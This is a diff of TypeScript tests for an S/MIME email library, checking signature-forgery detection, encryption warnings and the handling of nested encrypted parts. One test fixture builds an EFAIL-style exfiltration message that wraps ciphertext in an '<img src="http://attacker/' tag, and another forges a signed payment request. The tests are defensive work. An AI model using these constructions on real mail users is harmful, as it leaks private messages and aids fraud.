@@ -51,8 +51,13 @@ describe.skipIf(skipUnless('openssl', hasOpenssl, 'apt-get install openssl'))('S
     const both = await compose({}, [own(pki.alice, gcm), publicOnly(pki.fran, gcm), ...anchor])
     expect(text(both.bytes)).toMatch(/smime-type=authEnveloped-data/)
     expect((await open(both.bytes)).security.encryption.reason).toMatch(/aes-256-gcm \(AuthEnvelopedData\)/)
+    expect((await open(both.bytes)).security.warnings).toEqual([])
     const oneOnly = await compose({}, [own(pki.alice, gcm), publicOnly(pki.fran), ...anchor])
     expect(text(oneOnly.bytes)).toMatch(/smime-type=enveloped-data/)
+    // CBC is covered by the valid inner signature; without a signature it is the unauthenticated-encryption warning.
+    expect((await open(oneOnly.bytes)).security.warnings).toEqual([])
+    const unsigned = await compose({ sign: false }, [own(pki.alice), publicOnly(pki.fran), ...anchor])
+    expect((await open(unsigned.bytes)).security.warnings.map((w) => w.code)).toEqual(['unauthenticated-encryption'])
     // The sender's own certificate counts as reading what Siegelpost reads.
     const ownDefault = await compose({}, [own(pki.alice), publicOnly(pki.fran, gcm), ...anchor])
     expect(text(ownDefault.bytes)).toMatch(/smime-type=authEnveloped-data/)
@@ -67,7 +72,16 @@ describe.skipIf(skipUnless('openssl', hasOpenssl, 'apt-get install openssl'))('S
     const changed = Buffer.from(signed.bytes).toString('latin1').replace('anbei der Entwurf', 'anbei die Rechnung')
     const document = await open(Buffer.from(changed, 'latin1'))
     expect(document.security.signature.state).toBe('invalid')
-    expect(document.security.signature.reason).toMatch(/digest mismatch|changed/)
+    expect(document.security.signature.code).toBe('SIGNATURE_CONTENT_CHANGED')
+  })
+
+  it('a forged CMS (its own content instead of the part it signs) is invalid with that reason, not an unknown key', async () => {
+    const alice = { certificate: pki.alice.certificate, chain: [], pkcs8: pki.alice.pkcs8 }
+    const cms = signCms({ content: textEntity('Harmlos'), signer: alice, detached: false, now })
+    const signaturePart = entity([['Content-Type', 'application/pkcs7-signature; name="smime.p7s"'], ['Content-Transfer-Encoding', 'base64']], base64Lines(cms))
+    const forged = multipart('signed', { protocol: 'application/pkcs7-signature', micalg: 'sha-256' }, [textEntity('Bitte überweisen Sie an DE00'), signaturePart], [['From', 'alice@example.org']])
+    const document = await open(forged)
+    expect(document.security.signature).toMatchObject({ state: 'invalid', technology: 'smime', code: 'SIGNATURE_OTHER_CONTENT' })
   })
 
   it('accepts the old x-pkcs7-signature protocol name', async () => {
@@ -88,7 +102,7 @@ describe.skipIf(skipUnless('openssl', hasOpenssl, 'apt-get install openssl'))('S
     const document = await open(message)
     expect(document.security.encryption.state).toBe('encrypted')
     expect(document.security.signature.state).toBe('none')
-    expect(document.security.signature.reason).toMatch(/covers only the encrypted form/)
+    expect(document.security.signature.code).toBe('SIGNATURE_ONLY_CIPHERTEXT')
     expect(document.text).toContain('Geheimer Inhalt')
   })
 
@@ -97,14 +111,15 @@ describe.skipIf(skipUnless('openssl', hasOpenssl, 'apt-get install openssl'))('S
     const message = multipart('mixed', {}, [textEntity('<img src="http://attacker/'), envelope, textEntity('">')], [['From', 'eve@example.org']])
     const document = await open(message)
     expect(document.security.encryption.state).toBe('none')
-    expect(document.security.encryption.reason).toMatch(/not decrypted automatically/)
+    expect(document.security.encryption.code).toBe('ENCRYPTION_NESTED_NOT_OPENED')
+    expect(document.parts.map((part) => part.kind)).toEqual(['text', 'not-opened', 'text'])
     expect(document.text).not.toContain('SECRET-TEXT')
   })
 
   it('a message not encrypted to the vault, or damaged, is a failed state with a reason — no throw', async () => {
     const envelope = await smimeMessageTechnology.encrypt(textEntity('nur für Fran'), [publicOnly(pki.fran)], null, now)
     const notForAlice = await open(envelope, aliceVault)
-    expect(notForAlice.security.encryption).toMatchObject({ state: 'failed', technology: 'smime' })
+    expect(notForAlice.security.encryption).toMatchObject({ state: 'failed', technology: 'smime', code: 'ENCRYPTION_SMIME_NOT_DECRYPTED' })
     expect(notForAlice.text).toBe('')
     const garbage = entity([['Content-Type', 'application/pkcs7-mime; smime-type=enveloped-data'], ['Content-Transfer-Encoding', 'base64']], 'MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\r\n')
     expect((await open(garbage)).security.encryption.state).toBe('failed')
